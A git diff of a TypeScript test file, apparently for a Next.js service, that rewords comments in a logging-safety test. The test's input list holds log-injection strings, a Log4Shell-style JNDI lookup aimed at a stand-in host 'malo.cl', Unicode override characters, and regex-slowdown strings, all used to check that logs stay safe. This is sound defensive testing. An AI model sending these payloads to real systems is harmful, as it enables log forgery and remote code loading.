@@ -17,7 +17,7 @@ beforeAll(async () => {
   ({ id } = await makeAccount());
   advisor = (await makeAdvisor()).cookies;
 });
-// What was sent before may have ended a session.
+// An earlier request may have ended a session.
 beforeEach(async () => {
   member = await newSession(id, 'natural');
   log = captureLog();
@@ -25,7 +25,7 @@ beforeEach(async () => {
 
 const cases = (await allSubjects()).map((subject) => [subject.name, subject] as const);
 
-/** Texts that would end a line, command a terminal, format a message or be looked up. */
+/** These texts would end a line, command a terminal, format a message or be looked up. */
 const lineBreakers = [
   'MARCA\n{"level":60,"msg":"falsa"}',
   'MARCA"}\r\n{"level":60}',
@@ -35,7 +35,7 @@ const lineBreakers = [
   '${jndi:ldap://malo.cl/MARCA}%s%d%j',
   'MARCA\ud800 \ufeff\u202e',
 ];
-/** What a careless expression takes seconds or minutes for. */
+/** A careless expression takes seconds or minutes for these. */
 const slow = [
   `${'1'.repeat(60_000)}!`,
   `${' '.repeat(60_000)}x`,
@@ -69,7 +69,7 @@ describe.each(cases)('%s', (name, subject) => {
   test('logs one line of JSON for what would end it, and none of what was sent', async () => {
     for (const value of lineBreakers) await send(subject, value);
     const lines = log.text().split('\n').filter(Boolean);
-    // Google's start redirects and a page of Next's own kind log nothing.
+    // Google's start redirects, and Next's own pages log nothing.
     expect(lines.length, name).toBeGreaterThan(0);
     for (const line of lines) {
       expect(line.length).toBeLessThan(4000);
